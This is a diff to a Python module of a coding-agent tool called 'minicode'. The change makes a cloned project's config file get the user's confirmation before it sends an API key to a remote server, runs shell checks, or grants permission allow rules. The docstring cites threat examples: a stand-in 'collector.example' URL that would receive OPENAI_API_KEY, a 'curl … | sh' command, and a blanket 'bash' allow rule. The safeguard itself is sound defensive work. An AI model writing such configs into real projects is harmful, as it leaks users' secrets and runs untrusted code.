@@ -1,14 +1,22 @@
-"""A project's own config file may not send the user's API key anywhere without the user's word.
+"""A project's own config file may not act for the user without the user's word.
 
-The search order (SPEC 2) prefers ``<workspace>/config/config.toml`` to the user's own file. A
-repository can ship one: ``base_url = "https://collector.example/v1"`` with ``api_key_env =
-"OPENAI_API_KEY"`` would send the key from the user's environment to that server on the first
-run. So when the workspace's file takes a key from the environment for a server that is not on
-this machine, that pairing (base URL and variable) must be one the user confirmed: in a
-terminal minicode asks once; a pairing the user wrote with ``--init`` or the first-run questions
-is confirmed by writing it. Without a terminal the run stops (exit 2) and says how to confirm —
-or to name the file with ``--config``, which is the user choosing it. A key written in the file
-itself is the project's own and needs nothing; nor does a loopback server.
+The search order (SPEC 2) prefers ``<workspace>/config/config.toml`` to the user's own file, so a
+cloned repository can ship one. Three things in it act without asking, so they need the user's
+confirmation when the file is the workspace's (not named with ``--config``):
+
+- ``api_key_env`` for a server that is not on this machine: ``base_url =
+  "https://collector.example/v1"`` with ``api_key_env = "OPENAI_API_KEY"`` would send the key
+  from the user's environment there on the first run;
+- ``[task].checks``: shell commands run when a task ends, never asked (``curl … | sh``);
+- ``[permissions]`` allow rules: calls the model (or a prompt injection in the repository's
+  files) makes would run without asking (``allow = ["bash"]``).
+
+What is confirmed is exactly those (server and variable, the checks, the allow rules): in a
+terminal minicode asks once, showing them; a pairing the user wrote with ``--init`` or the
+first-run questions is confirmed by writing it. Without a terminal the run stops (exit 2) and
+says how to confirm — or to name the file with ``--config``, which is the user choosing it. A
+key written in the file itself is the project's own and needs nothing; nor does a loopback
+server, nor a deny rule.
 
 The confirmations live outside the workspace, under ``~/.minicode/trusted-config/`` (one small
 JSON file per config file, 0600) — where nothing the model runs in the workspace writes.
@@ -21,13 +29,16 @@ import hashlib
 import json
 import os
 from pathlib import Path
-from typing import Callable, Mapping
+from typing import TYPE_CHECKING, Callable, Mapping
 
 from minicode import jsonsafe
 from minicode.config import WORKSPACE_CONFIG, Config, ModelConfig, is_loopback_url
 from minicode.errors import ConfigError
 from minicode.private_file import write_private
 from minicode.tomlfile import read_toml
+
+if TYPE_CHECKING:
+    from minicode.permissions.rules import SourcedRule
 
 __all__ = ["check_project_config", "confirm_written"]
 
@@ -40,28 +51,29 @@ Ask = Callable[[str], "str | None"]
 def check_project_config(config: Config, workspace: Path, env: Mapping[str, str], *,
                          explicit: bool, ask: Ask | None) -> None:
     """Raise ``ConfigError`` unless ``config`` (as loaded from ``config.path``) may be used as it is."""
-    model, path = config.model, config.path
-    if explicit or not _sends_users_key(path, workspace, model):
+    path = config.path
+    if explicit or path != workspace / WORKSPACE_CONFIG:
+        return
+    grants = _Grants(config, workspace)
+    if not grants:
         return
     record = _record_file(path, env)
-    if record is not None and _confirmed(record) == _pairing(model.base_url, model.api_key_env):
+    if record is not None and _confirmed(record) == grants.digest():
         return
-    where = _shown_url(model.base_url)
     if ask is not None:
-        answer = ask(f"{WORKSPACE_CONFIG} in this project sends your API key (from ${model.api_key_env}) to {where}.\n"
+        answer = ask(f"{WORKSPACE_CONFIG} in this project:{grants.question()}\n"
                      "Use it? Answer yes only if you wrote this file or trust whoever did. [y/N] ")
         if answer is not None and answer.strip().lower() in ("y", "yes"):
             if record is not None:
                 try:
-                    _remember(record, path, model.base_url, model.api_key_env)
+                    _remember(record, path, grants.digest())
                 except OSError:
                     pass  # used this time; not remembered, so the next run asks again
             return
-        raise ConfigError(f"{path}: not used — it would send your API key (from ${model.api_key_env}) to {where}")
+        raise ConfigError(f"{path}: not used — it {grants.summary()}")
     raise ConfigError(
-        f"{path}: this project's config would send your API key (from ${model.api_key_env}) to {where}, "
-        "which you have not confirmed. If you wrote it, run minicode once in a terminal and answer yes, "
-        f"or name it with --config {WORKSPACE_CONFIG}")
+        f"{path}: this project's config {grants.summary()}, which you have not confirmed. If you wrote it, "
+        f"run minicode once in a terminal and answer yes, or name it with --config {WORKSPACE_CONFIG}")
 
 
 def confirm_written(path: Path, workspace: Path, env: Mapping[str, str]) -> None:
@@ -78,9 +90,67 @@ def confirm_written(path: Path, workspace: Path, env: Mapping[str, str]) -> None
     var = model.get("api_key_env") if isinstance(model, dict) else None
     if isinstance(base_url, str) and isinstance(var, str) and var.strip() and not is_loopback_url(base_url):
         try:
-            _remember(record, path, base_url, var.strip())
+            _remember(record, path, _pairing(base_url, var.strip()))
         except OSError:
             pass  # not remembered: the next run asks once
+
+
+class _Grants:
+    """What a workspace's config file does for the project without asking the user."""
+
+    def __init__(self, config: Config, workspace: Path) -> None:
+        model = config.model
+        self.key = _sends_users_key(config.path, workspace, model)
+        self.base_url, self.var = model.base_url, model.api_key_env
+        self.checks = config.task.checks
+        self.allow = tuple(rule.rule.text for rule in _allow_rules(config))
+
+    def __bool__(self) -> bool:
+        return self.key or bool(self.checks) or bool(self.allow)
+
+    def digest(self) -> str:
+        """What is confirmed. A file that only sends the key keeps the digest of the pairing
+        alone (as confirmed before checks and rules were part of it)."""
+        pairing = _pairing(self.base_url, self.var) if self.key else None
+        if not self.checks and not self.allow and pairing is not None:
+            return pairing
+        text = json.dumps({"key": pairing, "checks": list(self.checks), "allow": list(self.allow)})
+        return hashlib.sha256(text.encode("utf-8", "surrogateescape")).hexdigest()
+
+    def summary(self) -> str:
+        """One clause naming what needs the user's word (no command or rule is repeated: values stay out of errors)."""
+        parts = []
+        if self.key:
+            parts.append(f"would send your API key (from ${self.var}) to {_shown_url(self.base_url)}")
+        if self.checks:
+            parts.append(f"would run {_count(len(self.checks), 'command')} of [task].checks without asking")
+        if self.allow:
+            parts.append(f"would allow calls by {_count(len(self.allow), 'allow rule')} of [permissions] without asking")
+        return " and ".join(parts)
+
+    def question(self) -> str:
+        """The clauses with the commands and rules themselves, shown harmlessly on a terminal."""
+        from minicode.cli.shown_call import reveal
+
+        lines = []
+        if self.key:
+            lines.append(f"sends your API key (from ${self.var}) to {reveal(_shown_url(self.base_url))}")
+        if self.checks:
+            lines.append("runs these commands when a task ends, without asking:")
+            lines += [f"    {reveal(command)}" for command in self.checks]
+        if self.allow:
+            lines.append("allows these calls without asking: " + ", ".join(reveal(rule) for rule in self.allow))
+        return "\n  " + "\n  ".join(lines)
+
+
+def _count(number: int, noun: str) -> str:
+    return f"{number} {noun}" + ("" if number == 1 else "s")
+
+
+def _allow_rules(config: Config) -> list[SourcedRule]:
+    from minicode.permissions.rules import Effect
+
+    return [rule for rule in config.permissions if rule.effect is Effect.ALLOW and rule.file == config.path]
 
 
 def _sends_users_key(path: Path, workspace: Path, model: ModelConfig) -> bool:
@@ -89,7 +159,7 @@ def _sends_users_key(path: Path, workspace: Path, model: ModelConfig) -> bool:
 
 
 def _pairing(base_url: str, var: str | None) -> str:
-    """What is confirmed: this server with this variable (other edits of the file need nothing)."""
+    """The server with this variable (other edits of the model table need nothing)."""
     text = f"{base_url.strip().rstrip('/')}\0{var}"
     return hashlib.sha256(text.encode("utf-8", "surrogateescape")).hexdigest()
 
@@ -111,9 +181,9 @@ def _confirmed(record: Path) -> str | None:
     return digest if isinstance(digest, str) else None
 
 
-def _remember(record: Path, path: Path, base_url: str, var: str | None) -> None:
+def _remember(record: Path, path: Path, digest: str) -> None:
     record.parent.mkdir(mode=_DIR_MODE, parents=True, exist_ok=True)
-    body = {"config": os.path.realpath(path), "sha256": _pairing(base_url, var)}
+    body = {"config": os.path.realpath(path), "sha256": digest}
     write_private(record, json.dumps(body).encode("utf-8") + b"\n")
 
 
